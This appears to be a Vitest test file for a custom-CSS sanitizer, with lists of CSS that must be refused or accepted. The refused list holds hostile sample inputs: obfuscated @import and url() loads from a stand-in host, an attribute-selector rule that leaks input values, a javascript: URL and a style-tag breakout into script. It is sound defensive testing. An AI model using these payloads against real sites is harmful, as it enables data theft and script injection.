import { describe, expect, it } from "vitest";
import { customCssProblem, sanitizeCustomCss } from "./custom-css";

// Item 8 of issue 9: custom CSS may not @import or url() other origins, nor leave its <style> element.

const REFUSED = [
  "@import url(https://evil.example/x.css);",
  "@import 'https://evil.example/x.css';",
  '@IMPORT "//evil.example/x.css";',
  "@import/**/'https://evil.example/x.css';",
  "@\\69mport 'https://evil.example/x.css';",
  "@\\000069 mport 'x.css';",
  "body { background: url(https://evil.example/p.png) }",
  "body { background: URL( 'http://evil.example/p.png' ) }",
  'body { background: url("//evil.example/p.png") }',
  "body { background: url(/\\\\evil.example/p.png) }",
  "body { background: url('/\\9/evil.example/p.png') }",
  "body { background: url(data:image/png;base64,AAAA) }",
  "body { background: url(javascript:alert(1)) }",
  "body { background: url(uploads/relative.png) }",
  "body { background: \\75 rl(https://evil.example/p.png) }",
  "body { background: u\\rl(https://evil.example/p.png) }",
  "input[value^=a] { background: url(https://evil.example/?a) }",
  "@font-face { font-family: x; src: url(https://evil.example/f.woff) }",
  "body { background: image-set('https://evil.example/p.png' 1x) }",
  "body { background: -webkit-image-set('https://evil.example/p.png' 1x) }",
  "body { background: src('https://evil.example/p.png') }",
  "a{}</style><script>alert(1)</script>",
  "a{} \\3c /style>",
  "a { content: '\\3c' }",
  "a { content: '\\/*' } body { background: url(https://evil.example/p.png) } /* */",
  "/* url(https://evil.example/p.png) */ body { color: red }",
];

const ACCEPTED = [
  "",
  "body { color: hotpink } ul > li { margin: 0 } a::after { content: '>' }",
  "body { background: url(/uploads/3f2a.jpg) }",
  'header { background-image: url("/performers/demo.jpg") }',
  "svg { clip-path: url(#clip) }",
  "/* a comment */ body { color: red }",
  "a { content: '\\201C' }",
];

describe("customCssProblem", () => {
  it.each(REFUSED)("refuses %s", (css) => {
    expect(customCssProblem(css)).toEqual(expect.any(String));
    expect(sanitizeCustomCss(css)).toBe("");
  });

  it.each(ACCEPTED)("accepts %s", (css) => {
    expect(customCssProblem(css)).toBeUndefined();
    expect(sanitizeCustomCss(css)).toBe(css);
  });

  it("names the offending url in its message", () => {
    expect(customCssProblem("a { background: url(https://evil.example/p.png) }")).toMatch(/url\(https:\/\/evil\.example\/p\.png\) is not allowed/);
  });
});
